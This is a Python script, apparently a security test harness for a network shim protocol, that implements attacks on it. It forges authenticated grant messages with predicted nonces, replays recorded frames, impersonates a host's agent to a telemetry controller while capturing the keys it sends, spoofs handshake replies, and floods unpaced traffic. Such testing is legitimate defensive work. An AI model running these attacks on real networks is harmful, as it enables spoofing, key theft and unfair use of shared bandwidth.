#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Parts of shim-messages.sh: transfers, and attacks until they are killed."""
import argparse
import contextlib
import json
import re
import socket
import struct
import sys
import threading
import time

PORT = 8473
MASK = (1 << 64) - 1


def rotl(x, n):
    return (x << n | x >> (64 - n)) & MASK


def siphash(key, data):
    """SipHash-2-4."""
    k0, k1 = struct.unpack("<QQ", key)
    v = [k0 ^ 0x736F6D6570736575, k1 ^ 0x646F72616E646F6D,
         k0 ^ 0x6C7967656E657261, k1 ^ 0x7465646279746573]

    def rounds(n):
        for _ in range(n):
            v[0] = (v[0] + v[1]) & MASK
            v[1] = rotl(v[1], 13) ^ v[0]
            v[0] = rotl(v[0], 32)
            v[2] = (v[2] + v[3]) & MASK
            v[3] = rotl(v[3], 16) ^ v[2]
            v[0] = (v[0] + v[3]) & MASK
            v[3] = rotl(v[3], 21) ^ v[0]
            v[2] = (v[2] + v[1]) & MASK
            v[1] = rotl(v[1], 17) ^ v[2]
            v[2] = rotl(v[2], 32)

    last = data[len(data) // 8 * 8:]
    words = struct.unpack(f"<{len(data) // 8}Q", data[:len(data) // 8 * 8])
    for word in words + (len(data) % 256 << 56
                         | int.from_bytes(last, "little"),):
        v[3] ^= word
        rounds(2)
        v[0] ^= word
    v[2] ^= 0xFF
    rounds(4)
    return struct.pack("<Q", v[0] ^ v[1] ^ v[2] ^ v[3])


def address(text):
    return socket.inet_aton(text).ljust(16, b"\0")


def old_nonce(boot, local, remote):
    """The nonce of a shim whose hashes begin with a number."""
    seed = ((boot * 0x9E3779B97F4A7C15 + 1) & MASK) ^ 4
    for word in struct.unpack("<QQQQ", address(local) + address(remote)):
        seed = (seed ^ word) * 0x9E3779B97F4A7C15 & MASK
        seed ^= seed >> 29
    return (seed * 0xD6E8FEB86659FD93 & MASK ^ seed >> 32) >> 32


def messages(args, nonce):
    """Grants of 8 kbit/s for a flow, as of each version of messages."""
    grant = struct.pack("!HHIQ", args.sender_port, args.receiver_port, 1000,
                        8000)
    version = args.trick == "yes"
    yield (b"SGCC" + struct.pack("!BBBBII", version, 2, 3, 1,
                                 nonce & 0xFFFFFFFF, 7) + grant)
    head = b"SGCC" + struct.pack("!BBBBQQQ", version * 2, 2, 3, 1, nonce, 7,
                                 time.time_ns() // 1000) + grant
    ends = b"\4" + address(args.receiver) + address(args.sender)
    yield head + siphash(struct.pack("!QQ", nonce, 7), ends + head)


def forge(args):
    nonce = 0
    if args.boot:
        nonce = old_nonce(int(args.boot, 16), args.sender, args.receiver)
    elif args.nonce:
        with open(args.nonce, encoding="ascii") as f:
            nonce = int(f.read(), 16)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((args.receiver, PORT))
    while True:
        for message in messages(args, nonce):
            s.sendto(message, (args.sender, PORT))
        time.sleep(0.001)


def save_syn(args):
    """Writes the nonce of the hello in the SYN of a connection."""
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.IPPROTO_TCP, 27, 1)     # TCP_SAVE_SYN
    s.bind(("", args.port))
    s.listen()
    c, _ = s.accept()
    syn = c.getsockopt(socket.IPPROTO_TCP, 28, 256)     # TCP_SAVED_SYN
    at = syn.find(b"SG\1") + 4 if b"SG\1" in syn else syn.find(b"SG\2") + 4
    size = syn[at - 5]
    with open(args.out, "w", encoding="ascii") as f:
        f.write(syn[at:at + size - 6].hex())
    c.close()


def record(args):
    """Writes the grants that arrive at an interface, until it is killed."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    s.bind((args.iface, 0x0800))
    with open(args.out, "w", encoding="ascii") as f:
        while True:
            frame, sender = s.recvfrom(2048)
            if (sender[2] != socket.PACKET_OUTGOING and frame[23] == 17
                    and frame[36:38] == struct.pack("!H", PORT)
                    and frame[42:46] == b"SGCC" and frame[47] == 2):
                print(frame.hex(), file=f, flush=True)


def replay(args):
    """Sends recorded frames again, from eth0, maybe with another nonce."""
    with open(args.frames, encoding="ascii") as f:
        frames = [bytes.fromhex(line) for line in f]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(("eth0", 0))
    mac = s.getsockname()[4]
    while True:
        for frame in frames:
            frame = frame[:6] + mac + frame[12:]
            if args.nonce:
                at = 50 + (4 if frame[46] == 1 else 8)
                frame = frame[:at] + b"nonc" + frame[at + 4:]
            if args.trick == "no":
                frame = frame[:46] + b"\0" + frame[47:]
            s.send(frame)
            time.sleep(0.001)


def claim(args):
    """Reports as the agent of another host that an address is its own."""
    s = socket.socket(socket.AF_UNIX)
    s.connect(args.telemetry)
    report = {"version": 1, "host": args.host, "state": "fair", "applied": 0,
              "ports": {}, "jobs": [], "ip_bytes": 0, "default_bytes": 0,
              "peers": {"own": [args.address], "remote":
                        [{"address": args.remote}] if args.remote else []}}
    if args.remote:
        threading.Thread(target=take_keys, args=(s, args), daemon=True).start()
    while True:
        s.sendall(json.dumps({"method": "telemetry", "id": None,
                              "params": [report]}).encode())
        time.sleep(0.2)


def take_keys(s, args):
    """Keeps the last key that the controller sends."""
    text = ""
    while True:
        text += s.recv(1 << 16).decode()
        for key in re.findall(r'"key": ?"([0-9a-f]*)"', text):
            args.key = bytes.fromhex(key)
        text = text[-100:]


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", total ^ 0xFFFF)


def with_hello(syn, option):
    """A SYN of IPv4 with the option as its first one."""
    tcp = bytearray(syn[34:54] + b"\1\1\375" + option + syn[54:])
    tcp[12] = len(tcp) // 4 << 4
    tcp[16:18] = bytes(2)
    ip = bytearray(syn[14:34])
    ip[2:4] = struct.pack("!H", 20 + len(tcp))
    ip[10:12] = bytes(2)
    ip[10:12] = checksum(ip)
    tcp[16:18] = checksum(ip[12:20] + struct.pack("!HH", 6, len(tcp)) + tcp)
    return syn[:14] + ip + tcp


def welcome(sender, receiver, to, key):
    """A message that says that its sender is a shim with the nonce 7."""
    head = b"SGCC" + struct.pack("!BBBBQQQ", 2, 6, 1, 0, to, 7,
                                 time.time_ns() // 1000)
    return head + siphash(key or struct.pack("!QQ", to, 7),
                          b"\4" + address(sender) + address(receiver) + head)


def pretend(args):
    """Answers as a shim would, on a host that has none."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    s.bind(("eth0", 3))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((args.address, PORT))
    remote = socket.inet_aton(args.remote)
    while True:
        frame = s.recv(2048)
        if frame[23] == 6 and frame[30:34] == remote and frame[47] == 2:
            s.send(with_hello(frame, b"\12SG\1\1" + struct.pack("!I", 7)))
            s.send(with_hello(frame, b"\16SG\2\1" + struct.pack("!Q", 7)))
        elif (frame[23] == 17 and frame[26:30] == remote
              and frame[42:48] == b"SGCC\2\1"):
            to = struct.unpack("!Q", frame[58:66])[0]
            udp.sendto(welcome(args.address, args.remote, to, args.key),
                       (args.remote, PORT))


def free_ride(args):
    """Sends all the time, and does not pace as its shim seems to."""
    if args.trick == "yes":
        for run in (claim, pretend):
            threading.Thread(target=run, args=(args,), daemon=True).start()
        time.sleep(1)
    while True:
        with socket.create_connection((args.remote, args.port)) as s:
            for _ in range(64):
                s.sendall(bytes(1 << 16))


def serve(c):
    with c, contextlib.suppress(ConnectionError):
        while c.recv(1 << 20):
            pass
        c.send(b"x")


def sink(args):
    for port in args.ports:
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("", port))
        s.listen(64)

        def accept(s=s):
            while True:
                threading.Thread(target=serve, args=(s.accept()[0],),
                                 daemon=True).start()

        threading.Thread(target=accept, daemon=True).start()
    threading.Event().wait()


def transfer(args):
    """Prints the seconds that a transfer takes, or until it is given up."""
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    s.bind(("", args.local))
    s.settimeout(8)
    s.connect((args.address, args.port))
    began = time.monotonic()
    try:
        s.sendall(bytes(args.bytes))
        s.shutdown(socket.SHUT_WR)
        s.recv(1)
    except OSError as e:        # A transfer that ends by it was slow.
        print(f"transfer: {e}", file=sys.stderr)
    print(f"{time.monotonic() - began:.3f}")
    s.close()


def main():
    parser = argparse.ArgumentParser()
    commands = parser.add_subparsers(required=True)

    def command(name, run, *positional):
        c = commands.add_parser(name)
        c.set_defaults(run=run)
        for arg, kind in positional:
            c.add_argument(arg, type=kind)
        c.add_argument("--trick", choices=("yes", "no"), default="yes")
        return c

    c = command("forge", forge, ("sender", str), ("receiver", str),
                ("sender_port", int), ("receiver_port", int))
    c.add_argument("--boot")
    c.add_argument("--nonce")
    command("save-syn", save_syn, ("port", int), ("out", str))
    command("sink", sink).add_argument("ports", type=int, nargs="+")
    command("transfer", transfer, ("address", str), ("port", int),
            ("local", int), ("bytes", int))
    command("record", record, ("iface", str), ("out", str))
    command("replay", replay, ("frames", str)).add_argument(
        "--nonce", action="store_true")
    command("claim", claim, ("telemetry", str), ("host", str),
            ("address", str)).set_defaults(remote=None)
    command("free-ride", free_ride, ("telemetry", str), ("host", str),
            ("address", str), ("remote", str),
            ("port", int)).set_defaults(key=None)
    args = parser.parse_args()
    args.run(args)


if __name__ == "__main__":
    main()
